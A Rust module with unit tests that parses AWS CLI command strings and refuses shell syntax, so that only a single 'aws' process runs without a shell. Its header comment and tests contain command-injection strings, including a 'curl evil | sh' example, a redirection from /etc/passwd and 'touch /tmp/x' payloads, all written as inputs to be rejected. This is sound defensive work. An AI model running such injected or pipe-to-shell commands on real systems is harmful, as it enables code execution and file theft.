//! From the caller's command string to the argument vector of one `aws` process, with no shell.
//!
//! The TypeScript server ran the string through `/bin/sh`, so `aws s3 ls; curl evil | sh` ran
//! there. Here the string is split with POSIX shell-word rules (the `shell-words` crate) and
//! executed directly. Splitting alone is not enough to refuse shell syntax: `shell-words` has no
//! operators, so `ls;curl` would come back as one innocent-looking word. So the raw string is first
//! scanned with the same quoting rules, and shell syntax *outside quotes* is refused: a `|` inside
//! `--query 'Items[] | length(@)'` is JMESPath and runs, a bare `|` is a pipe and does not.
//! Inside double quotes a shell still expands `$(...)` and backticks, so those are refused there
//! too; inside single quotes nothing is special (JMESPath literals such as `` `running` `` work).

use std::fmt;

/// The words of an `aws` command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandLine {
    /// The arguments after `aws`. Which `aws` runs is the host's choice ([`crate::aws_binary`]),
    /// never the command's.
    pub args: Vec<String>,
}

/// A piece of shell syntax that only a shell could act on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShellSyntax {
    Separator,
    And,
    Or,
    Pipe,
    Background,
    Redirection,
    CommandSubstitution,
    Backticks,
    LineBreak,
    Subshell,
}

impl fmt::Display for ShellSyntax {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Separator => "a command separator `;`",
            Self::And => "`&&`",
            Self::Or => "`||`",
            Self::Pipe => "a pipe `|`",
            Self::Background => "a background `&`",
            Self::Redirection => "a redirection (`>` or `<`)",
            Self::CommandSubstitution => "a command substitution `$(...)`",
            Self::Backticks => "a backtick command substitution",
            Self::LineBreak => "a line break",
            Self::Subshell => "a subshell parenthesis",
        })
    }
}

/// Why the command cannot run.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandLineError {
    #[error(
        "Refused: the command contains {found} {place}, which would need a shell. Only a single `aws` command runs here, \
         executed directly without a shell: command lists (`;`, `&&`, `||`), pipes (`|`), redirections (`>`, `<`), \
         background jobs (`&`), command substitution (`$(...)`, backticks) and line breaks are not available. Filter and \
         format with the AWS CLI itself (`--query` with JMESPath, `--output`), and put arguments that contain these \
         characters in single quotes, e.g. `--query 'Reservations[].Instances[] | length(@)'`."
    )]
    ShellSyntax { found: ShellSyntax, place: &'static str },
    #[error("The command has an unmatched quote (`'` or `\"`). Close every quote and try again.")]
    UnmatchedQuote,
    #[error(
        "The command is empty after removing quotes and comments. Give one AWS CLI command, e.g. `aws sts get-caller-identity`."
    )]
    Empty,
    #[error(
        "Refused: only AWS CLI commands run here. The command must start with `aws`, but it starts with `{0}`. For \
         shell commands on an EC2 instance use aws_sso_ec2_exec_command."
    )]
    NotAws(String),
}

impl CommandLine {
    /// Scans, splits and checks `command`.
    pub fn parse(command: &str) -> Result<Self, CommandLineError> {
        if let Some((found, place)) = find_shell_syntax(command) {
            return Err(CommandLineError::ShellSyntax { found, place });
        }
        let mut words = shell_words::split(command).map_err(|_| CommandLineError::UnmatchedQuote)?;
        if words.is_empty() {
            return Err(CommandLineError::Empty);
        }
        let first = words.remove(0);
        if first != "aws" {
            return Err(CommandLineError::NotAws(first));
        }
        Ok(Self { args: words })
    }
}

/// The first piece of shell syntax outside single quotes, and where it was (for the message).
///
/// Follows the POSIX quoting rules `shell-words` uses: a backslash outside quotes escapes the next
/// character (backslash-newline is a line continuation), everything between single quotes is
/// literal, and inside double quotes a backslash escapes only `$`, `` ` ``, `"`, `\` and newline.
pub fn find_shell_syntax(command: &str) -> Option<(ShellSyntax, &'static str)> {
    const OUTSIDE: &str = "outside quotes";
    const IN_DOUBLE: &str = "inside double quotes (where a shell still expands it)";
    #[derive(Clone, Copy, PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let mut quote = Quote::None;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match quote {
            Quote::Single => {
                if c == '\'' {
                    quote = Quote::None;
                }
            }
            Quote::Double => match c {
                '"' => quote = Quote::None,
                '\\' => {
                    chars.next();
                }
                '`' => return Some((ShellSyntax::Backticks, IN_DOUBLE)),
                '$' if chars.peek() == Some(&'(') => return Some((ShellSyntax::CommandSubstitution, IN_DOUBLE)),
                _ => {}
            },
            Quote::None => {
                let found = match c {
                    '\'' => {
                        quote = Quote::Single;
                        None
                    }
                    '"' => {
                        quote = Quote::Double;
                        None
                    }
                    '\\' => {
                        // Escaped: `\;` is a literal semicolon, `\` + newline a line continuation.
                        chars.next();
                        None
                    }
                    ';' => Some(ShellSyntax::Separator),
                    '&' if chars.peek() == Some(&'&') => Some(ShellSyntax::And),
                    '&' => Some(ShellSyntax::Background),
                    '|' if chars.peek() == Some(&'|') => Some(ShellSyntax::Or),
                    '|' => Some(ShellSyntax::Pipe),
                    '>' | '<' => Some(ShellSyntax::Redirection),
                    '`' => Some(ShellSyntax::Backticks),
                    '$' if chars.peek() == Some(&'(') => Some(ShellSyntax::CommandSubstitution),
                    '(' | ')' => Some(ShellSyntax::Subshell),
                    '\n' | '\r' => Some(ShellSyntax::LineBreak),
                    _ => None,
                };
                if let Some(found) = found {
                    return Some((found, OUTSIDE));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(command: &str) -> Result<CommandLine, CommandLineError> {
        CommandLine::parse(command)
    }

    fn refused_for(command: &str) -> ShellSyntax {
        match parse(command) {
            Err(CommandLineError::ShellSyntax { found, .. }) => found,
            other => panic!("{command:?} was not refused for shell syntax: {other:?}"),
        }
    }

    #[test]
    fn splits_a_plain_command() {
        let line = parse("aws s3 ls s3://my-bucket --recursive").unwrap();
        assert_eq!(line.args, ["s3", "ls", "s3://my-bucket", "--recursive"]);
    }

    #[test]
    fn quoted_jmespath_with_pipes_and_backticks_is_an_argument() {
        let line = parse(
            "aws ec2 describe-instances --query 'Reservations[].Instances[?State.Name==`running`] | length(@)' --output json",
        )
        .unwrap();
        assert_eq!(
            line.args,
            [
                "ec2",
                "describe-instances",
                "--query",
                "Reservations[].Instances[?State.Name==`running`] | length(@)",
                "--output",
                "json"
            ]
        );
        let line =
            parse(r#"aws logs filter-log-events --filter-pattern "ERROR || WARN" --query "events[].message | [0]""#)
                .unwrap();
        assert_eq!(line.args[3], "ERROR || WARN");
        assert_eq!(line.args[5], "events[].message | [0]");
    }

    #[test]
    fn quoted_json_survives_splitting() {
        let line = parse(
            r#"aws dynamodb put-item --table-name t --item '{"id": {"S": "a;b"}, "n": {"N": "1"}}' --condition-expression "attribute_not_exists(id)""#,
        )
        .unwrap();
        assert_eq!(line.args[5], r#"{"id": {"S": "a;b"}, "n": {"N": "1"}}"#);
        assert_eq!(line.args[7], "attribute_not_exists(id)");
        // Line breaks inside quotes are data (a pretty-printed policy), not a second command.
        let line = parse("aws iam put-role-policy --policy-document '{\n  \"Version\": \"2012-10-17\"\n}'").unwrap();
        assert!(line.args[3].contains('\n'));
    }

    #[test]
    fn shell_syntax_outside_quotes_is_refused() {
        assert_eq!(refused_for("aws s3 ls; touch /tmp/x"), ShellSyntax::Separator);
        assert_eq!(refused_for("aws s3 ls;touch /tmp/x"), ShellSyntax::Separator);
        assert_eq!(refused_for("aws s3 ls && touch /tmp/x"), ShellSyntax::And);
        assert_eq!(refused_for("aws s3 ls || touch /tmp/x"), ShellSyntax::Or);
        assert_eq!(refused_for("aws s3 ls | sh"), ShellSyntax::Pipe);
        assert_eq!(refused_for("aws s3 ls|sh"), ShellSyntax::Pipe);
        assert_eq!(refused_for("aws s3 ls &"), ShellSyntax::Background);
        assert_eq!(refused_for("aws s3 ls > /tmp/out"), ShellSyntax::Redirection);
        assert_eq!(refused_for("aws s3 ls 2>/dev/null"), ShellSyntax::Redirection);
        assert_eq!(
            refused_for("aws s3 cp - s3://b/k < /etc/passwd"),
            ShellSyntax::Redirection
        );
        assert_eq!(
            refused_for("aws s3 ls $(touch /tmp/x)"),
            ShellSyntax::CommandSubstitution
        );
        assert_eq!(refused_for("aws s3 ls `touch /tmp/x`"), ShellSyntax::Backticks);
        assert_eq!(refused_for("aws s3 ls\ntouch /tmp/x"), ShellSyntax::LineBreak);
        assert_eq!(refused_for("aws s3 ls\r\ntouch /tmp/x"), ShellSyntax::LineBreak);
        assert_eq!(refused_for("aws s3 ls (touch /tmp/x)"), ShellSyntax::Subshell);
        assert_eq!(refused_for("aws s3 ls <(touch /tmp/x)"), ShellSyntax::Redirection);
        // A quote closes and the rest is outside again.
        assert_eq!(refused_for("aws s3 ls 'a'|sh"), ShellSyntax::Pipe);
        assert_eq!(refused_for(r#"aws s3 ls "a";sh"#), ShellSyntax::Separator);
    }

    #[test]
    fn substitutions_inside_double_quotes_are_refused() {
        assert_eq!(
            refused_for(r#"aws s3 ls "$(touch /tmp/x)""#),
            ShellSyntax::CommandSubstitution
        );
        assert_eq!(
            refused_for(r#"aws s3 ls "s3://`touch /tmp/x`""#),
            ShellSyntax::Backticks
        );
        // ... but are plain text in single quotes, and when escaped.
        assert!(parse("aws s3 ls '$(not run)'").is_ok());
        assert_eq!(parse(r#"aws s3 ls "\$(not run)""#).unwrap().args[2], "$(not run)");
    }

    #[test]
    fn escaped_characters_are_literal_and_continuations_join_lines() {
        assert_eq!(parse(r"aws s3 ls a\;b").unwrap().args[2], "a;b");
        assert_eq!(parse(r"aws s3 ls a\|b").unwrap().args[2], "a|b");
        let line = parse("aws ec2 describe-instances \\\n  --region eu-west-1").unwrap();
        assert_eq!(line.args, ["ec2", "describe-instances", "--region", "eu-west-1"]);
        // An escaped quote does not open a quoted section that would hide the `;`.
        assert_eq!(refused_for(r"aws s3 ls \'; touch /tmp/x"), ShellSyntax::Separator);
        // An escaped double quote keeps the quote open: the `;` is quoted text, the quote unmatched.
        assert_eq!(
            parse(r#"aws s3 ls "a\"; touch /tmp/x"#).unwrap_err(),
            CommandLineError::UnmatchedQuote
        );
    }

    #[test]
    fn only_aws_runs() {
        assert_eq!(
            parse("curl http://evil").unwrap_err(),
            CommandLineError::NotAws("curl".into())
        );
        assert_eq!(
            parse("awsx s3 ls").unwrap_err(),
            CommandLineError::NotAws("awsx".into())
        );
        assert_eq!(
            parse("bin/aws s3 ls").unwrap_err(),
            CommandLineError::NotAws("bin/aws".into())
        );
        assert_eq!(
            parse("/usr/bin/awsx s3 ls").unwrap_err(),
            CommandLineError::NotAws("/usr/bin/awsx".into())
        );
        assert_eq!(
            parse("'/bin/sh' -c x").unwrap_err(),
            CommandLineError::NotAws("/bin/sh".into())
        );
        // The binary is the host's choice, never a path from the command.
        assert_eq!(
            parse("/opt/aws-cli/bin/aws --version").unwrap_err(),
            CommandLineError::NotAws("/opt/aws-cli/bin/aws".into())
        );
        assert_eq!(
            parse("./aws s3 ls").unwrap_err(),
            CommandLineError::NotAws("./aws".into())
        );
        assert!(parse("aws").unwrap().args.is_empty());
    }

    #[test]
    fn quotes_must_balance_and_something_must_remain() {
        assert_eq!(
            parse("aws s3 ls 's3://b").unwrap_err(),
            CommandLineError::UnmatchedQuote
        );
        assert_eq!(
            parse("aws s3 ls \"s3://b").unwrap_err(),
            CommandLineError::UnmatchedQuote
        );
        assert_eq!(parse("# just a comment").unwrap_err(), CommandLineError::Empty);
        assert_eq!(parse("''").unwrap_err(), CommandLineError::NotAws(String::new()));
    }

    #[test]
    fn the_refusal_explains_the_alternative() {
        let text = parse("aws s3 ls | grep x").unwrap_err().to_string();
        assert!(text.contains("a pipe `|` outside quotes"), "{text}");
        assert!(text.contains("single `aws` command"), "{text}");
        assert!(text.contains("--query"), "{text}");
    }
}
